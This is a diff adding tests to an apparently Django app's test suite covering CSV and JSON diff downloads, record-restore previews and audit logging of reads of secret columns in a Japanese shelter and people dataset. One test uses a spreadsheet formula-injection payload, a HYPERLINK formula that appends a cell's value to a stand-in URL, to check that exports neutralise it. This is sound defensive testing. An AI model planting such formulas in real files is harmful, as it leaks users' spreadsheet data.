@@ -123,6 +123,18 @@ def test_the_diff_downloads_as_csv_with_bom_and_as_json(client, shelters, make_u
     assert AuditEntry.objects.filter(action="history.diff.download").count() == 2
 
 
+def test_the_diff_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(
+    client, shelters, make_user, owner
+):
+    set_cell(shelters, 1, "名称", '=HYPERLINK("http://x"&B2,"詳細")')
+    set_cell(shelters, 3, "定員", -5)
+    login(client, make_user, owner)
+    response = client.get("/datasets/shelters/diff.csv", {"from": 3, "to": 5})
+    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
+    assert 'changed,1,1,名称,池尻小学校,"\'=HYPERLINK(""http://x""&B2,""詳細"")"' in lines
+    assert "changed,3,3,定員,50,-5" in lines  # a number is never quoted
+
+
 def test_the_record_history_tells_who_changed_what_when(client, shelters, make_user, owner):
     login(client, make_user, owner)
     page = client.get("/datasets/shelters/rows/1/history").content.decode()
@@ -198,6 +210,45 @@ def test_reads_of_secret_columns_in_history_are_audited(client, people, make_use
     client.get("/datasets/people/rows/1/history")
     actions = list(AuditEntry.objects.values_list("action", flat=True))
     assert "store.read_restricted.diff" in actions and "store.read_restricted.history" in actions
+
+
+def test_downloads_of_differences_with_secret_values_are_audited(client, people, make_user, owner):
+    login(client, make_user, owner, role="editor", username="fukushi.editor")
+    csv_text = b"".join(client.get("/datasets/people/diff.csv", {"from": 1, "to": 4}).streaming_content)
+    json_text = b"".join(client.get("/datasets/people/diff.json", {"from": 1, "to": 4}).streaming_content)
+    assert "山田太郎".encode() in csv_text and "山田太郎".encode() in json_text
+    assert AuditEntry.objects.filter(action="store.read_restricted.diff_download").count() == 2
+
+
+def test_the_restore_preview_of_a_deleted_record_with_secret_values_is_audited(
+    client, people, make_user, owner
+):
+    delete_rows(people, 2)
+    login(client, make_user, owner, role="editor", username="fukushi.editor")
+    page = client.get("/datasets/people/rows/2/restore", {"revision": 1}).content.decode()
+    assert "佐藤一郎" in page  # the 秘 担当者 of the deleted record
+    entry = AuditEntry.objects.get(action="store.read_restricted.restore")
+    assert (entry.object_label, entry.detail) == (str(people), {"row": 2, "revision": 1})
+
+
+def test_the_restore_preview_of_a_changed_record_is_audited_once_and_the_restore_too(
+    client, people, make_user, owner
+):
+    login(client, make_user, owner, role="editor", username="fukushi.editor")
+    page = client.get("/datasets/people/rows/1/restore", {"revision": 1}).content.decode()
+    assert "山田太郎" in page and "山田花子" in page  # now and at revision 1
+    assert AuditEntry.objects.filter(action="store.read_restricted.restore").count() == 1
+    client.post("/datasets/people/rows/1/restore", {"revision": 1})
+    actions = list(AuditEntry.objects.values_list("action", flat=True))
+    assert actions.count("store.read_restricted.restore") == 2 and "store.row.restore" in actions
+
+
+def test_a_restore_preview_without_secret_values_is_not_logged_as_a_restricted_read(
+    client, shelters, make_user, owner
+):
+    login(client, make_user, owner, role="editor", username="fukushi.editor")
+    assert "太子堂中学校" in client.get("/datasets/shelters/rows/2/restore", {"revision": 1}).content.decode()
+    assert not AuditEntry.objects.filter(action__startswith="store.read_restricted").exists()
 
 
 def test_a_scoped_partner_sees_no_rows_outside_the_scope(client, people, make_user):
